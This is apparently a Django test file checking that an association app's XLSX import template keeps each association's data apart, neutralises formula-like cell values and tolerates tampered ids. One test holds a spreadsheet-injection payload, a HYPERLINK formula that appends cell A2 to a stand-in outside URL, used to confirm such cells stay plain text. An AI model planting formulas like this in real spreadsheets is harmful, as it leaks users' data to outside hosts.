"""Attacks on the participations file template and the list's "just ended" mark: another
förbund's or another insats's words, formulas in the förbund's own words, tampered ids."""

import io

from django.urls import reverse
from openpyxl import load_workbook

from samsyn.interventions.models import Intervention
from samsyn.participants.models import ReferrerCode

FORMULA = '=HYPERLINK("https://example.org/?"&A2,"Klicka")'


def template_words(client, world) -> list[str]:
    response = client.get(reverse("participations_import", args=[world.association.slug]),
                          {"format": "xlsx"})
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    return [str(cell.value) for row in book["Ordlistor"].iter_rows() for cell in row
            if cell.value is not None]


def test_the_template_names_nothing_of_another_förbund(alfa, beta, login):
    ReferrerCode.objects.create(association=beta.association, code="hemlig",
                                label="Betas hemliga anvisare", category="kommun")
    Intervention.objects.create(association=beta.association, slug="betas-insats",
                                name="Betas egen insats", start=alfa.intervention.start)
    words = template_words(login(alfa.users["staff"]), alfa)
    assert "Betas hemliga anvisare" not in words
    assert "Betas egen insats" not in words
    assert alfa.intervention.name in words


def test_staff_get_only_the_insatser_they_keep_records_for(alfa, login):
    Intervention.objects.create(association=alfa.association, slug="annans",
                                name="Någon annans insats", start=alfa.intervention.start)
    words = template_words(login(alfa.users["staff"]), alfa)
    assert alfa.intervention.name in words
    assert "Någon annans insats" not in words


def test_a_word_that_looks_like_a_formula_is_text_in_the_template_never_run(alfa, login):
    # A referrer's name typed by someone at the kansli must not become a formula in the
    # file every insats's staff open (the reports' XLSX neutralise such cells too).
    ReferrerCode.objects.create(association=alfa.association, code="lank", label=FORMULA,
                                category="kommun")
    response = login(alfa.users["staff"]).get(
        reverse("participations_import", args=["alfa"]), {"format": "xlsx"})
    lists = load_workbook(io.BytesIO(response.content))["Ordlistor"]
    cells = [cell for row in lists.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells, "the förbund's own referrer is offered"
    assert all(cell.data_type == "s" for cell in cells)


def test_a_tampered_just_ended_id_is_ignored_not_an_error_page(alfa, login):
    client = login(alfa.users["staff"])
    page = reverse("participation_list", args=["alfa", alfa.intervention.slug])
    for value in ("²", "٣", "9" * 30, "-1", "1e3", "0"):
        assert client.get(page, {"avslutad": value}).status_code == 200, value
